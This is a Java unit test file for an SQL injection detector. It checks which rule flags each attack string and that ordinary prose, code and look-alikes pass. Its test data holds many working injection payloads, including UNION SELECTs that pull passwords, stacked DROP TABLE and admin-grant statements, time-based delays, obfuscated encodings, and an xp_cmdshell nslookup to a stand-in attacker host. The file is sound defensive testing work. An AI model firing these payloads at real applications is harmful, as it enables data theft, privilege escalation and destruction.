package dev.lambdaguard.input.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.lambdaguard.input.Category;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The SQL injection detector: one test per rule with attack shapes built from SQL grammar, the look-alikes that
 * must pass, encoded and obfuscated variants, and input built to make a tokenizer work hard.
 */
class SqliDetectorTest {

  private final SqliDetector detector = new SqliDetector();

  private Detection detect(String value) {
    return detector.detect(Normalized.of(value));
  }

  private void assertRule(String rule, String value) {
    Detection d = detect(value);
    assertNotNull(d, () -> "not detected: " + value);
    assertEquals(rule, d.ruleId(), () -> "rule for: " + value);
    assertEquals(Category.SQLI, d.category());
  }

  @Test
  void theDetectorIsTheSqlInjectionCategorys() {
    assertEquals(Category.SQLI, detector.category());
  }

  // ---------------------------------------------------------------- one test per rule

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "' OR 'x'='x",
      "jdoe' or 2>1 -- ",
      "\") or (\"a\"=\"a",
      "x' AND 3 BETWEEN 1 AND 5#",
      "' or username is not null--",
      "-5 OR 7=7",
      "(2)or(2)=(2)",
      "42) AND (9=9",
      "' || 'q' LIKE 'q",
      "x' or 'ab' in ('ab','cd') and ''='",
      "' OR 1 --",
      "or true#",
      "AND 0",
      "' and (select count(*) from accounts) > 0 and 'z'='z",
      "1 RLIKE (SELECT (CASE WHEN (4=4) THEN 1 ELSE 0x28 END))",
  })
  void aBreakOutFollowedByALogicalOperatorAndADecidingConditionIsATautology(String value) {
    assertRule("sqli.tautology", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"'-'", "'*'", "\"&\"", "' or ''^'", "'='", "' or '' '"})
  void stringArithmeticThatMySqlComparesWithZeroIsATautology(String value) {
    assertRule("sqli.tautology", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "' UNION SELECT null, table_name FROM information_schema.tables --",
      "-7 union all select 1,2,3",
      "') UNION (SELECT password FROM accounts)#",
      "0 UNION SELECT @@datadir",
      "x\" union distinct select 'a','b'-- -",
      "' UNION ALL SELECT --",
      "12 UNION SELECT name, 2 FROM sqlite_master",
  })
  void unionSelectWithAColumnListIsAUnion(String value) {
    assertRule("sqli.union", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {" union select", "UNION SELECT", "uNioN  sElecT\n"})
  void aValueThatIsUnionSelectAloneLeavesTheColumnListToTheFuzzer(String value) {
    assertRule("sqli.union", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"union select committee", "Union select: the members' vote", "5 union select"})
  void unionSelectFollowedByProseOrAfterANumberWithoutAllPasses(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  /** An expression before the attack's clause: the query still parses, so the clause still takes it over. */
  @Test
  void anExpressionContinuingTheBreakDoesNotHideTheClauseAfterIt() {
    assertRule("sqli.union", "1+1 UNION SELECT password FROM users");
    assertRule("sqli.union", "2*3-1 union all select null--");
    assertRule("sqli.union", "x' || 'a' UNION SELECT password FROM users--");
    assertRule("sqli.union", "1" + "+1".repeat(1000) + " UNION SELECT password FROM users");
    assertRule("sqli.union", "1" + "+1".repeat(4000) + " UNION SELECT password FROM users"); // 8 KB, 8,001 tokens
    assertRule("sqli.order-by", "1*1 ORDER BY 3--");
    assertRule("sqli.order-by", "x' || 'a' ORDER BY 3--");
    assertRule("sqli.stacked", "x' || 'a'; DROP TABLE users--");
    assertRule("sqli.tautology", "1+1 AND 1=1");
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "'; DROP TABLE accounts; --",
      "1; EXEC master..xp_cmdshell 'dir'",
      "'; SHUTDOWN --",
      "'; INSERT INTO admins (name) VALUES ('eve') --",
      "9; UPDATE accounts SET role='admin' WHERE 1=1",
      "'; DECLARE @v int; --",
      "x'; select version(); --",
      "' exec sp_addlogin 'eve', 'pw' --",
      "'; GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%'--",
      "7; DELETE FROM sessions",
  })
  void aStatementOfTheAttackersAfterTheBreakIsStacked(String value) {
    assertRule("sqli.stacked", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "' select * from information_schema.columns--",
      "x' SELECT name FROM master..sysdatabases --",
      "9 select table_name from all_tables #",
      "'; SELECT * FROM generate_series(4,4,CASE WHEN (4=4) THEN 1 ELSE 0 END) LIMIT 1-- -",
      ";SELECT COUNT(*) FROM all_users t1, all_users t2, all_users t3",
      "1' ;SELECT COUNT(*) FROM sysibm.systables AS a, sysibm.systables AS b-- -",
      "t'exec master..xp_cmdshell 'nslookup attacker.example",
      "x' EXEC master..xp_dirtree '\\\\host\\share'",
  })
  void aSelectFromTheCatalogueThatSqlServerBatchesWithoutASeparatorIsStacked(String value) {
    assertRule("sqli.stacked", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "Let's select from the menu -- or not",
      "It's select from the list -- thanks",
      "psql -c \"select * from pg_user;\"",
      "psql -c \"select version();\"",
      "I'd select name from the roster # later",
      "It's exec time 'now'",
      "Let's exec the plan 'later'",
      "Rock 'n' roll exec master plan",
  })
  void aSelectAfterAQuoteInTextOrAShellCommandIsNoBatch(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "select @@hostname",
      "SELECT * FROM pg_catalog.pg_user",
      "exec master..xp_dirtree '\\\\host\\share'",
      "LOAD DATA INFILE '/etc/hosts' INTO TABLE t",
      "select current_setting('data_directory');",
      "DROP TABLE accounts;",
  })
  void aValueThatIsAStatementReachingTheSystemIsAStatement(String value) {
    assertRule("sqli.statement", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "(SELECT (CASE WHEN (1=2) THEN 1 ELSE 2 END))",
      "(CASE WHEN (7>3) THEN price ELSE name END)",
      "(select user())",
      "eve', (SELECT password FROM accounts LIMIT 1))-- -",
      "'), ('x', (select @@version))#",
  })
  void aSubqueryOrConditionInPlaceOfAValueIsASubquery(String value) {
    assertRule("sqli.subquery", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "(CASE WHEN 3=3 THEN 3 ELSE NULL END)",
      "(case when 'b'='b' then 1 else 0 end)",
      ",(SELECT (CASE WHEN (5=5) THEN 1 ELSE 2 END))",
      ",(CASE WHEN 6=6 THEN 1 ELSE NULL END)",
      "1,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)",
      "name , (CASE WHEN 4=4 THEN 1 ELSE NULL END)",
      "(SELECT * FROM generate_series(2,2,CASE WHEN (2=2) THEN 1 ELSE 0 END) LIMIT 1)",
      "(SELECT banner FROM v$version WHERE ROWNUM=1)",
      "(select name from sysobjects)",
      "(SELECT COUNT(*) FROM information_schema.columns a, information_schema.columns b WHERE 0 XOR 1)",
  })
  void aConditionOrSubqueryAsTheWholeValueOrAnotherColumnIsASubquery(String value) {
    assertRule("sqli.subquery", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "('x'||(CASE WHEN (3=3) THEN '1' ELSE '0' END)||'y')",
      "SELECT 'x'||(CASE WHEN (8=8) THEN 1 ELSE 0 END)||'y'",
      "'a'||(CASE 5 WHEN 5 THEN 1 ELSE 0 END)||'b'",
      "(CAST('x'||(SELECT (CASE WHEN (2=2) THEN 1 ELSE 0 END))::text||'y' AS NUMERIC))",
  })
  void aCaseDecidingOnTwoLiteralsInsideAnExpressionIsASubquery(String value) {
    assertRule("sqli.subquery", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {",(SELECT 1,2,IF(SUBSTR(@@version,1,1)<5,BENCHMARK(2000000,SHA1(1)),SLEEP(1)))",
      "1,(select if(count(*)!=-1,benchmark(3000000,md5(1)),1))"})
  void aDelayingCallInsideAnotherColumnsSubqueryIsNamedForTheDelay(String value) {
    assertRule("sqli.time-based", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"1, (see above)", "Paris, (France)", "id,(select one)", "2,(case closed)",
      "size, color (optional)", "1,2,(3)"})
  void aListWithAParenthesisedItemPasses(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"Use (CASE WHEN a > b THEN a ELSE b END) for max",
      "price (case when qty = 1 then 'one' end)", "(in case when you arrive then call) end"})
  void aCaseOfAQuerysOwnOrInProsePasses(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"AND [id]=[id]", "1 OR [x]=[x]--", "x' OR [name]=[name]--"})
  void sqlServersBracketedNamesAreNames(String value) {
    assertRule("sqli.tautology", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"[link](https://example.com) or [other](x)", "tags[name]=blue and tags[size]=big",
      "[TODO] or [FIXME] items", "[\"a\",\"b\"] or [\"c\"]", "[x] = [x] means identity in the notes"})
  void bracketsInMarkdownJsonAndFormNamesPass(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"IIF(7=7,7,1/0)", "ELT(42=42,99)", "make_set(3=3,5)", ",IIF(8=8,1,1/0)",
      "IF('q'='q',1,0)-- -", "1,IIF(5836=5836,1,1/0)", "id,ELT(3=3,1)"})
  void aCallWhoseFirstArgumentTestsTwoLiteralsIsATautology(String value) {
    assertRule("sqli.tautology", value);
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', value = {
      "1`,sleep(5)#1 | sqli.time-based", "1`) AND SLEEP(5)# | sqli.time-based", "name` OR 1=1-- - | sqli.tautology",
      "id` UNION SELECT 1,2,3-- - | sqli.union", "col`;DROP TABLE users-- | sqli.stacked",
      "x` AND 5836=5836# | sqli.tautology", "a``b` OR 1=1-- - | sqli.tautology"})
  void aBacktickClosingTheQuotedNameTheValueSitsInBreaksOut(String value, String rule) {
    assertRule(rule, value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"Run `DROP TABLE x;` only in dev", "`DROP TABLE x;` is irreversible",
      "Use `SELECT * FROM users` to list them", "Call `sleep(5)` between retries", "SELECT `id`, `name` FROM `users`",
      "Use `OR 1=1` as the example", "Try `git log` or `git show`", "``x`` OR 1=1"})
  void markdownCodeSpansAndQuotedNamesInQueriesAreNoBreakOut(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"(5836=5836)*7142", "1*(5836=5836)", "(5836=5837)*7142", "3-(1=1)", "('a'='a')*2",
      "7142*(5836=5836) limit 1", "(9=9)+1-- -"})
  void aNumberJoinedToATestOfTwoLiteralsIsATautology(String value) {
    assertRule("sqli.tautology", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"(2+3)*4", "2*(3+4)", "(x=1)*2", "x*(1=1)", "(1=1)", "(a=b)*2", "(1 = 1) * 2 is one",
      "Costs (10=ten)*2 dollars", "(1990=1990)*3 apples"})
  void formulasAndTestsThatAreNotTheWholeValueArentArithmeticProbes(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "(case closed)",
      "(select one from the system)",
      "(select name from master list)",
      "(Case study: when users pay, see below)",
      ", (see above)",
      ",(select one)",
      "assert(1 == 1, \"math works\")",
      "count(5>3, x)",
      "IF(A1=1, \"yes\", \"no\")",
      "max(1, 2)",
      "print(1=1)",
      "round(3.5, 1) is enough",
  })
  void callsAndGroupsOfCodeAndProseArentConstantTests(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"root'--", "root' #", "root'/*", "bob\")-- -", "eve');#"})
  void aBreakOutFollowedOnlyByACommentCutsTheQueryOff(String value) {
    assertRule("sqli.comment-terminated", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "1 AND SLEEP(3)",
      "'; WAITFOR DELAY '00:00:07'--",
      "1) OR pg_sleep(4)--",
      "' AND BENCHMARK(2000000,SHA1('x'))#",
      "1 AND 1=(SELECT 1 FROM PG_SLEEP(3))",
      "sleep(9)--",
      "x' ORDER BY SLEEP(2)-- ",
      "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('q',6)--",
      "1 WAITFOR TIME '23:59:00'",
      ";BEGIN DBMS_LOCK.SLEEP(6); END",
      "1' ;begin dbms_lock.sleep(3); end-- -",
  })
  void aCallThatMakesTheServerWaitIsTimeBased(String value) {
    assertRule("sqli.time-based", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"(SELECT 7 FROM PG_SLEEP(7))", ",(select 1 from pg_sleep(2))"})
  void aDelayingTableFunctionInASubqueryIsASubquery(String value) {
    assertRule("sqli.subquery", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"Begin sleep(8 hours) now", "begin sleep(5) tonight", "dbms_lock.sleep is a procedure",
      "2*exp(3)", "exp(2)", "exp(~(x))", "the exp (select few) bonus"})
  void sleepAndMathOutsideAnOperandsPlacePass(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "' AND EXTRACTVALUE(7,CONCAT(0x3a,USER()))--",
      "1 AND UPDATEXML(1,CONCAT(0x7e,DATABASE()),1)",
      "x=CONVERT(int,(SELECT DB_NAME()))",
      "' || utl_http.request('http://x.example/') || '",
      "x=char(0x61)+char(0x62)",
      "1 AND GEOMETRYCOLLECTION((SELECT * FROM (SELECT user())a))",
      "1;(load_file(0x2f6574632f686f737473))",
      "RAISE_ERROR('70001','x'||(SELECT 1 FROM SYSIBM.SYSDUMMY1))",
      "EXP(~(SELECT * FROM (SELECT CONCAT('a',0x3a,user()))x))",
  })
  void aCallThatLeaksDataThroughAnErrorOrTheNetworkIsAFunction(String value) {
    assertRule("sqli.function", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"1 ORDER BY 9--", "x' ORDER BY 4#", "' GROUP BY name HAVING 2>1--", " order by 3,2,1 ",
      "5' group by 1,2,-- -"})
  void orderingOrGroupingByColumnNumbersProbesTheColumns(String value) {
    assertRule("sqli.order-by", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {" group by userid having 1=1--", "GROUP BY password HAVING 2>1"})
  void aValueOpeningWithGroupByAndAComparingHavingProbesTheColumns(String value) {
    assertRule("sqli.order-by", value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"group by color having 2 colors", "Group by age having 18+ members",
      "group by team having 3>2 wins", "order by date -- newest first"})
  void groupingWordsInAFormFieldPass(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {" HAVING 3=3", "x' WHERE 2=2 --", "' AS t WHERE 5=5--", "' INTO OUTFILE '/tmp/x'--",
      "' LIMIT 1 --", "3 PROCEDURE ANALYSE()"})
  void aClauseOfTheAttackersOwnIsAClause(String value) {
    assertRule("sqli.clause", value);
  }

  // ---------------------------------------------------------------- look-alikes

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "select the best plan from our offers",
      "O'Brien",
      "D'Angelo's pizza",
      "drop me a line",
      "Union Street 5",
      "and/or",
      "Let's meet at 5 -- or later",
      "1=1 is true in math",
      "Rock 'n' roll or jazz?",
      "I'm 5'11\" and 180 lbs",
      "'Tis the season; or so they say",
      "Summer '24 -- best one yet",
      "Press '#' to continue",
      "use '*' as a wildcard",
      "He said 'or' twice",
      "either 'A' or 'B' is fine by me",
      "'yes' or 'no'",
      "Portland OR 97205",
      "1 or 2 tickets, whichever is cheaper",
      "between 5' and 6'",
      "Members of the union select a representative each year",
      "union select 5 delegates",
      "Order by Friday, delivered by Monday",
      "Where are you? Or not.",
      "Please drop table tennis from the club schedule?",
      "We had to drop table tennis; update your calendars",
      "The meeting's at 3; select a seat when you arrive",
      "grant me access to the shared drive",
      "Backup the database to the NAS tonight",
      "Execute order 66",
      "Kids' menu: fries or salad = $5",
      "Jones' and Smiths' houses",
      "price >= 10 and price <= 20",
      "if (a == b || c == d) return;",
      "a && b || !c",
      "time.sleep(5)",
      "Thread.sleep(1000);",
      "cache || load()",
      "exec('ls')",
      "=SUM(A1:A10)",
      "sql = \"SELECT * FROM t WHERE id = \" + id",
      "cursor.execute(\"SELECT * FROM users WHERE id = %s\", (user_id,))",
      "conn.execute(\"DELETE FROM sessions WHERE expires < now()\")",
      "SELECT id, name FROM customers WHERE country = 'IE' ORDER BY name;",
      "UPDATE users SET active = 0 WHERE id = 7;",
      "CREATE INDEX idx_name ON users(name);",
      "psql -c \"select version();\"",
      "{\"query\": \"union station parking\", \"page\": 2}",
      "{\"name\": \"O'Brien\", \"age\": 42}",
      "“smart quotes” and ‘single smart quotes’",
      "L'hôtel était propre et l'accueil chaleureux.",
      "Jean-Baptiste Poquelin (Molière)",
      "(415) 555-0101",
      "(edited) works fine now",
      "in case when it rains, bring a coat",
      "O', he said, (select one) and move on",
      "Closing as duplicate of #1289.",
      "/* deprecated since 2.0 */",
      "**bold** and _italic_ -- see `docs`",
      "https://en.wikipedia.org/wiki/Union_(set_theory)",
      "Meh. Battery life < 6 hrs; the ad said > 10.",
      "a<b and c>d",
      "2+2 and then some",
      "3*4 order by size, please",
      "1+1 union select committee meeting",
  })
  void textThatHoldsSqlWordsButNoInjectionShapePasses(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @Test
  void onlyTheInformationFunctionsSqlLetsStandWithoutParenthesesAreValuesAlone() {
    // current_user and session_user are values by themselves; version, db_name and the rest need their parentheses,
    // so "name or version" is a choice in prose, not a condition
    assertRule("sqli.tautology", "' or current_user --");
    assertRule("sqli.tautology", "1 OR SESSION_USER--");
    assertRule("sqli.tautology", "' and version() like '5%' --");
    for (String prose : new String[] {"name or version -- whichever you prefer", "name or version",
        "the host or db_name -- see the ticket"}) {
      assertNull(detect(prose), () -> "flagged: " + prose);
    }
  }

  // ---------------------------------------------------------------- encodings and obfuscation

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "%27%20OR%20%27a%27%3D%27a",
      "%2527%2520UNION%2520SELECT%2520NULL%252CNULL--",
      "&#39; OR 1=1--",
      "%u0027 or 1=1--",
      "%c0%a7 or 1=1--",
      "\uff07 \uff2f\uff32 \uff11\uff1d\uff11\uff0d\uff0d",
      "'+OR+1=1--",
      "'+UNION+ALL+SELECT+NULL--",
  })
  void percentHtmlUnicodeAndFormEncodedAttacksAreSeenDecoded(String value) {
    assertNotNull(detect(value), () -> "not detected: " + value);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "'/**/UnIoN/**/SeLeCt/**/1,2--",
      "'UN/**/ION SEL/**/ECT 1,2--",
      "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
      "1'/*!OR*/1=1--",
      "' oR 1=1 --",
      "1\tUNION\nSELECT\r1,2",
      "'\u00a0or\u00a01=1--",
  })
  void commentsAndOddWhitespaceBetweenOrInsideKeywordsAreFoldedAsSqlFoldsThem(String value) {
    assertNotNull(detect(value), () -> "not detected: " + value);
  }

  @Test
  void aBackslashDoesNotHideTheBreakFromDatabasesWhereItEscapesNothing() {
    assertRule("sqli.tautology", "\\' or 1=1--");
  }

  @Test
  void typographicQuotesCountAsQuotesSinceBestFitConversionMakesThemOnes() {
    assertRule("sqli.tautology", "\u2019 or \u20181\u2019=\u20191");
  }

  // ---------------------------------------------------------------- adversarial input

  @Test
  void megabytesOfNearMissInputComplete() {
    int size = 1 << 20;
    String[] patterns = {"'", "\"", "''", "/*", "or ", "' or ", "1 or ", "(", ")", "((select ", "union select (",
        ";", "; select ", "a/*", "a/**/", "/*!", "--", "sleep(", "extractvalue(", "1=", "' '", "\\'", "a (",
        "O'Brien ", "case ", "`", "*/", "&#", "(a", "a(", "union(", "reunion select ", "select from where union ",
        "(case when 1=1 ", "[a]", "[a", "iif(1=1,", ",(", "from f(1), ", "exp(~(", "(case 1 when 1 ", "a=b&", "a=b&c",
        "a=1&b=", "a=b;", "1=1,"};
    for (String pattern : patterns) {
      Detection d = detect(pattern.repeat(size / pattern.length() + 1));
      assertTrue(d == null || d.category() == Category.SQLI);
    }
    assertNull(detect("'" + "x".repeat(size)), "one unclosed quote before a megabyte of text");
    assertNull(detect("/*" + " ".repeat(size)), "an unclosed comment");
  }

  @Test
  void aMegabyteOfQueryStringIsOneExpressionAndClean() {
    for (String unit : new String[] {"a=b&", "a=b&c", "a=1&b=", "a=b|c-d*e/f%g^h<i>j!"}) {
      assertNull(detect(unit.repeat((1 << 20) / unit.length())), unit);
    }
  }

  @Test
  void anInjectionAfterAHundredKilobytesOfQueryStringIsFound() {
    int size = 100_000;
    assertRule("sqli.tautology", "a=b&".repeat(size / 4) + "' or 1=1--");
    assertRule("sqli.union", "a=1&b=".repeat(size / 6) + "' union select password from users--");
    assertRule("sqli.stacked", "a=b&c".repeat(size / 5) + "'; drop table users--");
  }

  @Test
  void anAttackPastMoreNearMissesThanThePrefilterPeeksAtIsLeftToTheTokensAndCaught() {
    int many = SqlPrefilter.MAX_PEEKS + 8;
    assertRule("sqli.tautology", "(" + "1&".repeat(many) + "1) && 1=1");
    assertRule("sqli.tautology", "(" + "1|".repeat(many) + "1) || 1=1");
    assertRule("sqli.time-based", "1 and " + "f(1)+".repeat(many) + "sleep(5)");
    assertRule("sqli.time-based", "1 and " + "(1)+".repeat(many) + "sleep(5)");
    assertRule("sqli.union", "1 " + "/x".repeat(many) + "/**/union/**/select/**/1,2--");
    assertRule("sqli.union", "union x ".repeat(many) + "' union select password from users--");
    assertRule("sqli.stacked", ";cat 'x".repeat(many) + "'; drop table users--");
    assertRule("sqli.stacked", "1" + "; cat x".repeat(many) + "; drop table users--");
    assertNull(detect(";cat 'x".repeat(many)));
    assertNull(detect("a(b)c;d|e&sh'f".repeat(many)));
  }

  @Test
  void unionSelectAndSelectArePeekedAtForAColumnList() {
    assertRule("sqli.union", "1 union all select 1,2,3--");
    assertRule("sqli.union", "1 union (select username,password from users)--");
    assertRule("sqli.union", "1 union distinct select null,null--");
    assertRule("sqli.statement", "select @@version");
    assertNull(detect("select from where union select from"));
    assertNull(detect("Select the union plan from the offers"));
  }

  @Test
  void anAttackPastTheTokenCapIsNotInspectedButTheOneBeforeItIs() {
    String padding = "1+".repeat(SqlTokens.MAX_TOKENS);
    assertNotNull(detect("' or 1=1 -- " + padding));
    assertNull(detect(padding + "1 union select @@version,2--"));
  }
}
